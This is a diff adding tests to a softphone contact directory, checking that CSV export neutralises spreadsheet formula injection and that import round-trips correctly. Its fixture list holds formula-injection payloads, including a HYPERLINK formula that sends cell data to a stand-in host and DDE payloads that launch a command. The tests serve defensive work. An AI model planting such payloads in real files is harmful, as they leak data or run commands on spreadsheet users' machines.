@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 from softphone.directory.importexport import ImportFormat, export, parse_import
 from softphone.directory.vcard import split_cards
 from softphone.domain.directory import Contact, ContactNumber, ContactSource
@@ -124,3 +127,75 @@ def test_csv_export_round_trips() -> None:
     text = export(ImportFormat.CSV, _sample())
     again = parse_import(ImportFormat.CSV, text)
     assert again.rejected == [] and _shape(again.contacts) == _shape(_sample())
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''+twice",
+    "'plain apostrophe",
+    'Quote "inside", comma; semicolon =1+1',
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _hostile() -> list[Contact]:
+    return [
+        Contact(
+            ContactSource.PERSONAL,
+            f"h{i}",
+            given=name,
+            family="=1+1" if i % 2 else "",
+            display=name,
+            org="@org",
+            email="-x@example.org",
+            numbers=(ContactNumber("mobile", "+41 79 555 12 34"), ContactNumber("office", "1001")),
+        )
+        for i, name in enumerate(HOSTILE_NAMES)
+    ]
+
+
+def _cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_csv_export_starts_no_cell_with_a_formula_character() -> None:
+    text = export(ImportFormat.CSV, _hostile())
+    rows = _cells(text)
+    assert len(rows) == 1 + len(HOSTILE_NAMES)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_START), cell
+    # Phone numbers get the quote too (OWASP), and every cell is in double quotes so a
+    # spreadsheet splitting on ";" finds no new cell inside a name.
+    assert rows[1][5] == "'+41 79 555 12 34"
+    assert all(line.startswith('"') for line in text.split("\r\n")[:-1])
+
+
+def test_csv_export_of_hostile_names_round_trips_exactly() -> None:
+    text = export(ImportFormat.CSV, _hostile())
+    assert "\"'=HYPERLINK(" in text and "\"'''+twice\"" in text  # neutralised in the file
+    again = parse_import(ImportFormat.CSV, text)
+    assert again.rejected == []
+    # Import trims blanks around a cell, as it always did: "\t=1+1" comes back "=1+1".
+    assert [(c.given, c.family, c.display, c.org, c.email) for c in again.contacts] == [
+        tuple(f.strip() for f in (c.given, c.family, c.display, c.org, c.email)) for c in _hostile()
+    ]
+    assert {tuple((n.label, n.number) for n in c.numbers) for c in again.contacts} == {
+        (("mobile", "+41 79 555 12 34"), ("office", "1001"))
+    }
+
+
+def test_csv_import_takes_the_quote_off_formula_like_cells_only() -> None:
+    data = "Name,Mobile\n'=Ann,'+41 79 555 12 34\n'Bob,'1001\n"
+    result = parse_import(ImportFormat.CSV, data)
+    assert [(c.display, [n.number for n in c.numbers]) for c in result.contacts] == [
+        ("=Ann", ["+41 79 555 12 34"])
+    ]
+    # "'1001" was not written by a quoting export: the quote is data, and no number.
+    assert [(r.line, r.reason) for r in result.rejected] == [(3, "invalid_number")]
